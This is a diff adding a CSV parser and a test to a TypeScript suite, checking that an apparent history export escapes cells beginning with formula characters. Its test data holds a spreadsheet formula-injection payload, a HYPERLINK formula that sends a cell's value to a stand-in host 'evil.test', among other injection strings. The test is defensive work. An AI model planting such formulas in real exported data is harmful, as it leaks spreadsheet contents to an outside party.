@@ -194,6 +194,67 @@ describe('f=csv', () => {
   });
 });
 
+/** RFC 4180 records: quoted fields may hold commas, doubled quotes and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i];
+    if (quoted && ch === '"' && text[i + 1] === '"') {
+      field += '"';
+      i++;
+    } else if (ch === '"') {
+      quoted = !quoted;
+    } else if (!quoted && ch === ',') {
+      row.push(field);
+      field = '';
+    } else if (!quoted && ch === '\r' && text[i + 1] === '\n') {
+      rows.push([...row, field]);
+      row = [];
+      field = '';
+      i++;
+    } else {
+      field += ch;
+    }
+  }
+  return rows;
+}
+
+describe('f=csv and spreadsheet formulas', () => {
+  it('a cell beginning with = + - @, a tab or a carriage return is written with a leading quote, the rest of it unchanged', async () => {
+    const T = Date.UTC(2019, 5, 1);
+    const formulas = ['=HYPERLINK("https://evil.test/?"&A1,"open")', '+SUM(1,2)', '-2+3', '@cmd', '\tpadded', '\r=1+1'];
+    await svc.db.tx((q) =>
+      recordEvents(
+        q,
+        formulas.map((title, n) => ({
+          orgId: svc.orgId,
+          actor: { userId: 'uid-admin', username: 'admin' },
+          when: T + n * HOUR,
+          source: 'item' as const,
+          operation: 'update',
+          subjectId: `f${n}`,
+          history: { owner: formulas[(n + 1) % formulas.length], title, data: { n } },
+        })),
+      ),
+    );
+    const res = await svc.app.inject({
+      method: 'GET',
+      url: `/sharing/rest/portals/${svc.orgId}/history?f=csv&all=true&fromDate=${T}&toDate=${T + 10 * HOUR}&token=${tokens.admin}`,
+    });
+    const [header, ...rows] = parseCsv(res.body);
+    expect(header).toEqual([...HISTORY_CSV_COLUMNS]);
+    expect(rows).toHaveLength(formulas.length);
+    const col = (name: string) => HISTORY_CSV_COLUMNS.indexOf(name as (typeof HISTORY_CSV_COLUMNS)[number]);
+    expect(rows.map((r) => r[col('itemTitle')]).sort()).toEqual(formulas.map((f) => `'${f}`).sort());
+    expect(rows.map((r) => r[col('owner')]).sort()).toEqual(formulas.map((f) => `'${f}`).sort());
+    // No cell of the file starts a formula.
+    for (const r of rows) for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
+
 describe('access and isolation', () => {
   it('administrators of the organization only', async () => {
     for (const u of ['publisher1', 'user1', 'viewer1']) expect((await history({ all: 'true' }, u)).error?.code).toBe(403);
